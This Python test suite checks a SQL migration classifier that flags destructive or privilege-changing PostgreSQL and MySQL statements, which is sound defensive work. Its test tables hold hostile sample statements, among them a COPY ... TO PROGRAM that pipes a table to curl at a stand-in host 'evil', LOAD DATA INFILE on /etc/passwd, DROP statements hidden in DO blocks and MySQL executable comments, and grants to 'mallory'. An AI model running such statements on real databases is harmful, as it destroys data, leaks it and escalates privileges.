"""The one SQL classifier (``jobclaim.statements``), read by a real parser.

Tables: a control row that is additive, then one row per statement that must not be,
with the finding the reviewer is shown. Then a property: for every statement of a
generated corpus and of the PostgreSQL SQL this machine ships (the extension scripts
and the information schema of Debian's postgresql-15), the classifier never calls a
statement additive that the parser's tree shows drops, deletes, updates, renames,
grants, changes ownership or runs code. The oracle walks pglast's node objects (its
own visitor), not the JSON the classifier walks, and lists what is dangerous rather
than what is safe, so the two readings are built the opposite way round.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pglast
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pglast import ast, visitors

from jobclaim import _postgres_sql
from jobclaim.statements import (
    approval_required,
    plan_content,
    privilege_changes_of,
    recorded_content_problem,
    statements_of,
)
from tests.support.examples import examples

PG = "PostgreSQL"
MY = "MySQL"


# -- PostgreSQL: the attacks of issue 31, each refused with what it does --------------

ADDITIVE_PG = [
    "CREATE TABLE orders_v2 (id bigint PRIMARY KEY, placed_at timestamptz NOT NULL DEFAULT now());",
    "CREATE INDEX CONCURRENTLY orders_email_idx ON orders (lower(email));",
    "ALTER TABLE orders ADD COLUMN note text DEFAULT 'a;b', ADD CONSTRAINT c CHECK (id > 0);",
    "ALTER TABLE orders ALTER COLUMN note SET NOT NULL;",
    "INSERT INTO orders_v2 SELECT id, now() FROM orders;",
    "CREATE SEQUENCE s; CREATE TYPE mood AS ENUM ('ok'); ALTER TYPE mood ADD VALUE 'sad';",
    "COMMENT ON TABLE orders IS 'DROP TABLE orders';",
    "-- DROP TABLE t\nCREATE TABLE t (c int);",
    "CREATE VIEW v AS SELECT id FROM orders;",
    "CREATE SCHEMA reporting CREATE TABLE facts (id int);",
    "BEGIN; SET lock_timeout = '5s'; CREATE TABLE u (a int); COMMIT;",
    "CREATE FUNCTION add1(i int) RETURNS int LANGUAGE sql AS 'SELECT i + 1';",
]


@pytest.mark.parametrize("sql", ADDITIVE_PG)
def test_control_rows_the_tree_proves_additive(sql: str) -> None:
    statements, _ = statements_of(sql.encode(), engine=PG)
    assert [s.findings for s in statements if not s.additive] == []
    assert not approval_required("Always", destructive=False, privileged=False)


NOT_ADDITIVE_PG = [
    # (statement, destructive, privilege, the finding shown)
    ("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$;", True, True, "runs code (a DO block)"),
    (
        "ALTER TABLE orders ADD COLUMN note text DEFAULT '--', DROP COLUMN email;",
        True,
        False,
        "drops a column",
    ),
    ("EXPLAIN ANALYZE DELETE FROM orders;", True, False, "deletes rows"),
    (
        "WITH gone AS (DELETE FROM orders RETURNING *) INSERT INTO trash SELECT * FROM gone;",
        True,
        False,
        "deletes rows",
    ),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO mallory;",
        False,
        True,
        "changes default privileges",
    ),
    ("ALTER GROUP admins ADD USER mallory;", False, True, "changes a role or its members"),
    ("ALTER SCHEMA public RENAME TO old;", True, False, "renames a schema"),
    (
        "COPY orders TO PROGRAM 'curl -d @- evil';",
        True,
        True,
        "runs a program on the database server (COPY ... PROGRAM)",
    ),
    ("UPDATE accounts SET owner = 'mallory';", True, False, "updates rows"),
    ("DROP TABLE orders;", True, False, "drops a table"),
    ("drop index i;", True, False, "drops an index"),
    ("TRUNCATE t;", True, False, "truncates a table"),
    ("ALTER TABLE t ALTER COLUMN c TYPE bigint;", True, False, "changes a column's type"),
    ("ALTER TABLE t RENAME TO u;", True, False, "renames a table"),
    ("GRANT SELECT ON orders TO reporting;", False, True, "grants privileges"),
    ("REVOKE ALL ON t FROM PUBLIC;", False, True, "revokes privileges"),
    ("ALTER TABLE t OWNER TO app;", False, True, "changes a table's owner"),
    ("CREATE ROLE app;", False, True, "creates a role"),
    (
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2;",
        True,
        False,
        "updates rows on conflict",
    ),
    ("CREATE OR REPLACE VIEW v AS SELECT 1;", True, False, "replaces a view"),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';",
        False,
        True,
        "a SECURITY DEFINER function runs with its owner's rights",
    ),
    (
        "CREATE TABLE t AS SELECT pg_terminate_backend(pid) FROM pg_stat_activity;",
        True,
        True,
        "calls pg_terminate_backend(), which may run any code",
    ),
    ("SELECT 1;", True, True, "a Select statement is not known to be additive"),
    ("SET search_path = evil, pg_catalog;", True, False, "changes the setting search_path"),
    ("SET ROLE postgres;", False, True, "switches the role the statements run as"),
    (
        "CREATE TRIGGER t BEFORE INSERT ON o FOR EACH ROW EXECUTE FUNCTION f();",
        True,
        True,
        "attaches code to a table's writes (a trigger)",
    ),
    ("CREATE EXTENSION dblink;", True, True, "runs an extension's install script"),
    ("CALL cleanup();", True, True, "runs code (CALL of a procedure)"),
    ("CREATE SCHEMA s AUTHORIZATION bob;", False, True, "creates a schema owned by another role"),
    ("VACUUM FULL orders;", True, True, "a Vacuum statement is not known to be additive"),
    ("CREATE TABLE (;", True, True, "the plan as a whole is not valid PostgreSQL"),
]


@pytest.mark.parametrize(("sql", "destructive", "privilege", "finding"), NOT_ADDITIVE_PG)
def test_each_statement_that_is_not_additive_says_what_it_does(
    sql: str, destructive: bool, privilege: bool, finding: str
) -> None:
    (statement,), by = statements_of(sql.encode(), engine=PG)
    assert by == "kubectl-ptah"
    assert (statement.destructive, statement.privilege) == (destructive, privilege)
    assert finding in statement.findings
    assert not statement.additive
    assert approval_required(
        "Always", destructive=statement.destructive, privileged=statement.privilege
    )


def test_a_text_that_does_not_parse_as_a_whole_makes_every_piece_unreadable() -> None:
    # Each piece would read as additive alone; the whole is not valid PostgreSQL, so
    # where one statement ends is a guess, and none may run unapproved.
    statements, _ = statements_of(b"CREATE TABLE a (i int); CREATE TABLE b (;", engine=PG)
    assert len(statements) == 2
    assert all(s.destructive and s.privilege for s in statements)


def test_the_statements_keep_their_own_words_and_a_multibyte_text_is_cut_right() -> None:
    text = "CREATE TABLE naïve (c text DEFAULT 'é;è');\nDROP TABLE ünïcode;"
    statements, _ = statements_of(text.encode(), engine=PG)
    assert [s.sql for s in statements] == [
        "CREATE TABLE naïve (c text DEFAULT 'é;è');",
        "DROP TABLE ünïcode;",
    ]
    assert [s.severity for s in statements] == ["safe", "destructive"]


def test_an_engine_without_a_parser_reads_nothing_as_additive() -> None:
    (statement,), _ = statements_of(b"CREATE TABLE t (i int);", engine="Oracle")
    assert statement.destructive and statement.privilege
    assert "no SQL parser is known for the engine 'Oracle'" in statement.findings


def test_bytes_that_are_not_text_are_unreadable() -> None:
    with pytest.raises(Exception, match="not UTF-8"):
        statements_of(b"\xff\xfe", engine=PG)


# -- MySQL family ------------------------------------------------------------------------

ADDITIVE_MY = [
    "CREATE TABLE t (id bigint PRIMARY KEY, at datetime DEFAULT CURRENT_TIMESTAMP) ENGINE=InnoDB;",
    "ALTER TABLE t ADD COLUMN c int, ADD INDEX i (c);",
    "INSERT INTO t VALUES ('a\\'; DROP TABLE x; --');",
    "CREATE INDEX i ON t (a); SET NAMES utf8mb4;",
]


@pytest.mark.parametrize("sql", ADDITIVE_MY)
def test_mysql_control_rows_the_tree_proves_additive(sql: str) -> None:
    statements, _ = statements_of(sql.encode(), engine=MY)
    assert [s.findings for s in statements if not s.additive] == []


NOT_ADDITIVE_MY = [
    ("ALTER TABLE t ADD COLUMN c int, DROP COLUMN d;", "drops a column"),
    ("DELETE FROM t;", "deletes rows"),
    ("UPDATE t SET a = 1;", "updates rows"),
    ("TRUNCATE t;", "truncates a table"),
    ("GRANT ALL ON db.* TO 'x'@'%';", "GRANT is read by no parser here"),
    ("RENAME TABLE a TO b;", "RENAME is read by no parser here"),
    ("REPLACE INTO t VALUES (1);", "REPLACE is read by no parser here"),
    ("/*!40101 DROP TABLE x */;", "executable comment"),
    ("CREATE TABLE t (a int) /*!50100 , DROP TABLE x */;", "executable comment"),
    ("INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1;", "updates rows on a duplicate key"),
    ("CREATE VIEW v AS SELECT SLEEP(100);", "calls SLEEP()"),
    ("CREATE OR REPLACE VIEW v AS SELECT 1;", "replaces a view"),
    ("CREATE PROCEDURE p() BEGIN DELETE FROM t; END;", "deletes rows"),
    ("ALTER TABLE t RENAME COLUMN a TO b;", "renames a column"),
    ("ALTER TABLE t MODIFY COLUMN c bigint;", "not known to be additive"),
    ("SET sql_log_bin = 0;", "changes the session's identity or logging"),
    ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t;", "MySQL's parser cannot read it"),
]


@pytest.mark.parametrize(("sql", "finding"), NOT_ADDITIVE_MY)
def test_each_mysql_statement_that_is_not_additive_says_what_it_does(
    sql: str, finding: str
) -> None:
    statements, _ = statements_of(sql.encode(), engine=MY)
    assert any(not s.additive for s in statements)
    assert finding in " ".join(s.findings for s in statements)


def test_mysql_backslash_escapes_end_a_string_where_mysql_ends_it() -> None:
    # 'a\'' is a'; the DROP after it runs. A splitter that knew only '' would read
    # the DROP as part of the string.
    statements, _ = statements_of(b"SELECT 'a\\''; DROP TABLE x; SELECT '';", engine=MY)
    assert [s.sql for s in statements][1] == "DROP TABLE x;"
    assert statements[1].destructive


# -- Ptah's saved plan: the worse of Ptah's severity and the parser's ----------------------


def _document(*entries: dict[str, str]) -> bytes:
    return json.dumps({"format_version": 1, "statements": list(entries)}).encode()


def test_ptahs_own_severity_is_kept_and_the_worse_wins() -> None:
    data = _document(
        {"sql": "ALTER TABLE t ADD COLUMN c int;", "severity": "info", "reason": "add"},
        {"sql": "ALTER TABLE t DROP COLUMN d;", "severity": "destructive", "reason": "drop"},
        # Ptah says safe; the tree says it updates every row.
        {"sql": "UPDATE t SET owner = 'mallory';", "severity": "safe", "reason": "data"},
    )
    statements, by = statements_of(data, engine=PG)
    assert by == "ptah"
    assert [(s.severity, s.destructive, s.reason) for s in statements] == [
        ("info", False, "add"),
        ("destructive", True, "drop"),
        ("destructive", True, "data"),
    ]


# -- what the controller records, and what admission holds it to ---------------------------


def test_the_recorded_privilege_changes_are_the_bytes_reading() -> None:
    content = plan_content(
        b"CREATE TABLE t (i int); GRANT SELECT ON t TO r; ALTER TABLE t OWNER TO o;", engine=PG
    )
    recorded = privilege_changes_of(content)
    assert recorded == ["statement 2: grants privileges", "statement 3: changes a table's owner"]
    assert recorded_content_problem(content, destructive=False, privilege_changes=recorded) is None
    problem = recorded_content_problem(content, destructive=False, privilege_changes=[])
    assert problem == (
        "it records no privilege change, but has statement 2: GRANT SELECT ON t TO r; "
        "(grants privileges)"
    )


def test_a_plan_with_many_grants_records_a_bounded_list() -> None:
    text = " ".join(f"GRANT SELECT ON t{i} TO r;" for i in range(100))
    recorded = privilege_changes_of(plan_content(text.encode(), engine=PG))
    assert len(recorded) == 64
    assert recorded[-1] == "and 37 more"


# -- the property: never additive where the tree shows harm -------------------------------

_HARM_NODES = frozenset(
    {
        "DropStmt",
        "DeleteStmt",
        "UpdateStmt",
        "MergeStmt",
        "TruncateStmt",
        "RenameStmt",
        "AlterObjectSchemaStmt",
        "GrantStmt",
        "GrantRoleStmt",
        "AlterDefaultPrivilegesStmt",
        "AlterOwnerStmt",
        "CreateRoleStmt",
        "AlterRoleStmt",
        "DropRoleStmt",
        "ReassignOwnedStmt",
        "DropOwnedStmt",
        "DoStmt",
        "CallStmt",
        "CreateTrigStmt",
        "CreateEventTrigStmt",
        "CreateExtensionStmt",
        "LoadStmt",
        "CopyStmt",
        "CreatePolicyStmt",
        "AlterSystemStmt",
    }
)


class _Harm(visitors.Visitor):  # type: ignore[misc]
    """What pglast's node objects show, listed the dangerous way round."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def visit(self, ancestors: Any, node: Any) -> None:
        name = type(node).__name__
        if name in _HARM_NODES:
            self.found.append(name)
        elif isinstance(node, ast.AlterTableCmd):
            subtype = str(node.subtype.name if node.subtype is not None else "")
            if subtype.startswith("AT_Drop") or subtype in ("AT_AlterColumnType", "AT_ChangeOwner"):
                self.found.append(subtype)
        elif isinstance(node, ast.FuncCall):
            names = [n.sval for n in node.funcname or ()]
            if not (
                names[:-1] in ([], ["pg_catalog"]) and names[-1] in _postgres_sql.SAFE_FUNCTIONS
            ):
                self.found.append(f"FuncCall {'.'.join(names)}")
        elif isinstance(node, ast.CreateFunctionStmt | ast.ViewStmt) and node.replace:
            self.found.append("OR REPLACE")
        elif isinstance(node, ast.DefElem) and node.defname == "security":
            self.found.append("SECURITY")


def _harm(sql: str) -> list[str] | None:
    """What the tree shows; None when PostgreSQL's parser cannot read it."""
    try:
        tree = pglast.parse_sql(sql)
    except pglast.parser.ParseError:
        return None
    visitor = _Harm()
    visitor(tree)
    return visitor.found


def _hold(sql: str) -> bool:
    """The property for one text; True when some statement was called additive."""
    statements, _ = statements_of(sql.encode(), engine=PG)
    called_additive = False
    for s in statements:
        if s.additive:
            called_additive = True
            harm = _harm(s.sql)
            assert harm == [], f"called additive, but the tree shows {harm}: {s.sql}"
    return called_additive


_TABLES = st.sampled_from(["orders", "public.orders", '"Weird ; Name"', "s.t"])
_FUNCS = st.sampled_from(["now()", "lower('A')", "pg_sleep(1)", "evil.f()", "nextval('s')"])
_DML = st.one_of(
    st.builds("DELETE FROM {}".format, _TABLES),
    st.builds("UPDATE {} SET a = 1".format, _TABLES),
    st.builds("INSERT INTO {} VALUES (1)".format, _TABLES),
    st.builds("INSERT INTO {} SELECT {} ".format, _TABLES, _FUNCS),
    st.builds("SELECT {}".format, _FUNCS),
)
_COMMANDS = st.sampled_from(
    [
        "ADD COLUMN c int",
        "ADD COLUMN c text DEFAULT '--'",
        "DROP COLUMN c",
        "ALTER COLUMN c TYPE text",
        "OWNER TO mallory",
        "ALTER COLUMN c DROP DEFAULT",
        "ALTER COLUMN c SET DEFAULT 1",
        "ADD CONSTRAINT k CHECK (c > 0)",
        "ENABLE ROW LEVEL SECURITY",
        "DISABLE TRIGGER ALL",
    ]
)
_STATEMENTS = st.recursive(
    st.one_of(
        _DML,
        st.builds("CREATE TABLE {} (a int DEFAULT {})".format, _TABLES, _FUNCS),
        st.builds("CREATE INDEX ON {} ((lower(a)))".format, _TABLES),
        st.builds(
            "ALTER TABLE {} {}".format,
            _TABLES,
            st.lists(_COMMANDS, min_size=1, max_size=3).map(", ".join),
        ),
        st.sampled_from(
            [
                "GRANT ALL ON t TO x",
                "ALTER SCHEMA a RENAME TO b",
                "DROP TABLE t",
                "TRUNCATE t",
                "COPY t TO PROGRAM 'x'",
                "CREATE ROLE r",
                "ALTER GROUP g ADD USER u",
                "DO $$ BEGIN END $$",
                "CALL p()",
                "CREATE OR REPLACE VIEW v AS SELECT 1",
                "CREATE VIEW v AS SELECT 1",
                "COMMENT ON TABLE t IS 'x'",
                "SET lock_timeout = 1",
                "SET ROLE x",
            ]
        ),
    ),
    lambda inner: st.one_of(
        st.builds("EXPLAIN ANALYZE {}".format, _DML),
        st.builds("EXPLAIN {}".format, _DML),
        st.builds("WITH w AS ({} RETURNING *) INSERT INTO t SELECT * FROM w".format, _DML),
        st.builds("CREATE TABLE c AS {}".format, st.builds("SELECT {}".format, _FUNCS)),
        st.builds(
            "CREATE SCHEMA n CREATE TABLE x (a int) CREATE VIEW y AS SELECT {}".format, _FUNCS
        ),
        st.lists(inner, min_size=2, max_size=4).map("; ".join),
    ),
    max_leaves=6,
)


@settings(max_examples=examples(400), deadline=None)
@given(_STATEMENTS)
def test_generated_statements_are_never_additive_where_the_tree_shows_harm(sql: str) -> None:
    _hold(sql)


# PostgreSQL's own SQL on this machine: Debian's postgresql-15 ships its extension
# install scripts and the information schema. They are full of CREATE FUNCTION,
# GRANT, REVOKE, ALTER ... OWNER, DO blocks and UPDATEs of catalogs.
_SHIPPED = sorted(Path("/usr/share/postgresql").glob("*/extension/*.sql")) + sorted(
    Path("/usr/share/postgresql").glob("*/information_schema.sql")
)


def test_the_sql_postgresql_ships_is_never_additive_where_the_tree_shows_harm() -> None:
    # Fails, never skips, on a machine without it: the property would prove nothing.
    assert len(_SHIPPED) > 50, "PostgreSQL's shipped SQL (postgresql-15) is not installed"
    statements = additive = 0
    for path in _SHIPPED:
        text = path.read_text(encoding="utf-8", errors="replace")
        # psql meta-commands and the extension script's placeholder are not SQL.
        text = re.sub(r"^\\.*$", "", text, flags=re.MULTILINE).replace("@extschema@", "public")
        for piece in re.split(r";\s*\n", text):
            if piece.strip():
                statements += 1
                additive += _hold(piece + ";")
    # The corpus holds both kinds, so the property was exercised either way.
    assert statements > 3000 and additive > 100, (statements, additive)


@given(
    st.lists(
        st.sampled_from(["SELECT 1", "SELECT ';'", "SELECT $$a;b$$", "/* ; */ SELECT 2"]),
        min_size=1,
        max_size=6,
    )
)
def test_the_parser_finds_each_statement_whatever_it_quotes(parts: list[str]) -> None:
    text = "\n".join(f"{p};" for p in parts)
    statements, _ = statements_of(text.encode(), engine=PG)
    assert [s.sql for s in statements] == [f"{p};" for p in parts]
